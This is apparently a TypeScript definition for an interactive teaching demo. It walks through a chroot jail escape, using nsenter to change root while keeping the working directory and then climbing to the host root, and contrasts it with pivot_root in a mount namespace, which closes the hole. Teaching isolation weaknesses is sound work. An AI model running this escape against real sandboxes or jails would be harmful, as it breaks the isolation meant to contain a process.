import { defineDemo } from './define.ts'

/** Sources: chroot(2) NOTES, pivot_root(2), nsenter(1), mount_namespaces(7), path_resolution(7). */
export default defineDemo({
  id: 'chroot-escape',
  title: 'Out through the working directory',
  machines: ['embedded', 'qemu'],
  panes: {
    'chroot': {},
    'pivot-root': { title: 'pivot_root' },
  },
  setup: `
    mkdir -p /jail/bin /jail/etc /jail/old /jail/x
    cp /bin/busybox /jail/bin
    chroot /jail /bin/busybox --install /bin
    echo jail > /jail/etc/hostname
    mount --bind /jail /jail
  `,
  steps: [
    {
      pane: 'chroot',
      type: 'chroot /jail sh',
      cue: 'The jail from before, and root in it.',
    },
    {
      pane: 'chroot',
      type: 'cat /etc/hostname; cd ..; cat etc/hostname',
      cue: 'It reads its own files, and the way up ends at its root: dot dot of slash is slash. So far the jail holds.',
      expect: { output: /^jail\njail\n$/ },
    },
    {
      pane: 'chroot',
      type: 'exec nsenter --root=x bin/sh',
      cue: 'Now a second chroot, into a directory of the jail. But unlike the chroot command, nsenter leaves the working directory where it was.',
    },
    {
      pane: 'chroot',
      type: 'cd ../../..; echo *',
      cue: 'The kernel stops us only at the root of the process. That root is now below us, so we reach the root of the host.',
      expect: { output: /^bin .*jail .*proc root / },
    },
    {
      pane: 'chroot',
      type: 'exec jail/bin/chroot . bash',
      cue: 'A third chroot, to where we stand.',
    },
    {
      pane: 'chroot',
      type: 'cat /etc/hostname',
      cue: 'And root is out. The manual page of the system call says how to do it: chroot was never meant to hold root.',
      expect: { output: /^(?!jail)\S+\n$/, check: '! ls -l /proc/[0-9]*/root | grep jail' },
    },
    {
      pane: 'pivot-root',
      type: 'unshare --mount',
      cue: 'How do containers close that hole? They begin with a mount namespace, a list of mounts of their own.',
    },
    {
      pane: 'pivot-root',
      type: 'cd /jail && pivot_root . old && umount -l old',
      cue: 'pivot_root does not hide the old root. It swaps the two, and then we unmount the old one. The old root is not out of reach. It is not there.',
    },
    {
      pane: 'pivot-root',
      type: 'exec nsenter --root=x bin/sh',
      cue: 'The same trick again.',
    },
    {
      pane: 'pivot-root',
      type: 'cd ../../..; echo *; bin/cat etc/hostname',
      cue: 'Up, up, up, and still in the jail: there is nothing above it. Container runtimes do it this way.',
      expect: { output: /^bin etc old x\njail\n/ },
    },
  ],
})
